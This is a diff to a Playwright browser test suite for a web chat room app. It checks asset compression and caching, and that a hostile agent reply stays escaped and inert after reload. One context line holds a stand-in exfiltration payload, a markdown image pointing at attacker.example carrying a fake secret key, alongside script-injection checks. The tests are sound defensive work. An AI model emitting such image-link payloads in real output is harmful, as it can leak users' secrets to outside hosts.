@@ -8,6 +8,7 @@ import type { Page } from "playwright-core";
 import { writeLongSession } from "../testing/long-session.ts";
 import { screenshotsDir, startWebRoom, type WebRoomFixture } from "../testing/web-room-fixture.ts";
 import { waitUntil } from "../testing/wait-until.ts";
+import { ROOM_FIRST_MESSAGES } from "./web-api.ts";
 
 const LONG = "Agent writes a careful answer word by word for the watchers. ".repeat(8).trim();
 const BESIDE = "Python answers beside agent at the very same time in its own lane. ".repeat(8).trim();
@@ -117,6 +118,13 @@ describe("org web in Chromium", () => {
     expect(csp).toContain("frame-ancestors 'none'");
     expect(answer.headers()).toMatchObject({ "x-content-type-options": "nosniff", "referrer-policy": "no-referrer" });
     expect(await page.content()).not.toContain(token);
+    // The bundle's files: gzipped for a browser that takes it, kept for good (named by their content's hash).
+    const script = (await page.content()).match(/\/assets\/app-[0-9a-f]+\.js/)?.[0] ?? "/assets/none.js";
+    const gzipped = await page.request.get(`${room.origin}${script}`, { headers: { "accept-encoding": "gzip" } });
+    expect(gzipped.headers()).toMatchObject({ "content-encoding": "gzip", "cache-control": "private, max-age=31536000, immutable" });
+    const plain = await page.request.get(`${room.origin}${script}`, { headers: { "accept-encoding": "identity" } });
+    expect(plain.headers()["content-encoding"]).toBeUndefined();
+    expect(await plain.text()).toBe(await gzipped.text());
   });
 
   test("two personas answer at once, each in its own lane, both growing in the same instant, then their figures", async () => {
@@ -449,6 +457,41 @@ describe("org web in Chromium", () => {
     expect(await laneText("agent")).toContain("<script>");
     expect(await laneText("agent")).toContain("[image: exfil] (https://attacker.example/leak?secret=sk-abc)");
     expect(requests.filter((url) => !url.startsWith(room.origin))).toEqual([]);
+    // Reloaded, the page carries the hostile reply in its data block: it is drawn again, and still nothing runs or leaves.
+    await page.reload();
+    await waitUntil("the hostile reply back after the reload", async () => (await laneText("agent")).includes("a fine link"), 30_000);
+    await Bun.sleep(300);
+    expect(await page.evaluate("window.__pwned")).toBeUndefined();
+    expect(await laneText("agent")).toContain("<script>");
+    expect(requests.filter((url) => !url.startsWith(room.origin))).toEqual([]);
+  }, 60_000);
+
+  test("the page carries the room's state as GET /v1/sessions/:id gives it, escaped; the room opens from it without asking", async () => {
+    const stateOf = (html: string) => html.match(/<script type="application\/json" id="org-room-state">(.*)<\/script>/s)?.[1];
+    const session = new URL(page.url()).searchParams.get("session") ?? "";
+    await waitUntil(
+      "the page's state the route's",
+      async () => {
+        const block = stateOf(await (await page.request.get(`${room.origin}/?session=${session}`)).text());
+        const route = await (await page.request.get(`${room.origin}/v1/sessions/${session}?limit=${ROOM_FIRST_MESSAGES}`)).json();
+        return block !== undefined && JSON.stringify(JSON.parse(block)) === JSON.stringify(route);
+      },
+      30_000,
+    );
+    // The hostile reply is in it, and no text in it can end the element: every <, > and & is an escape.
+    const block = stateOf(await (await page.request.get(`${room.origin}/?session=${session}`)).text()) ?? "";
+    expect(block).not.toMatch(/[<>&]/);
+    expect(block).toContain("\\u003cscript\\u003e");
+    expect(JSON.stringify(JSON.parse(block))).toContain("<script>");
+    // A session the server has none of: no state; the page asks the route, which says so.
+    expect(stateOf(await (await page.request.get(`${room.origin}/?session=no-such-session`)).text())).toBeUndefined();
+    // Reloaded, the room follows its stream from the state's last event and never asks for the state itself.
+    const before = requests.length;
+    await page.reload();
+    await page.getByText(/· live ·/).waitFor();
+    const asked = requests.slice(before).map((url) => new URL(url));
+    expect(asked.filter((url) => url.pathname === `/v1/sessions/${session}`)).toEqual([]);
+    expect(asked.filter((url) => url.pathname === `/v1/sessions/${session}/events` && url.searchParams.has("after"))).toHaveLength(1);
   }, 60_000);
 
   test("a page on another origin gets 403 for a POST and has its event stream refused", async () => {
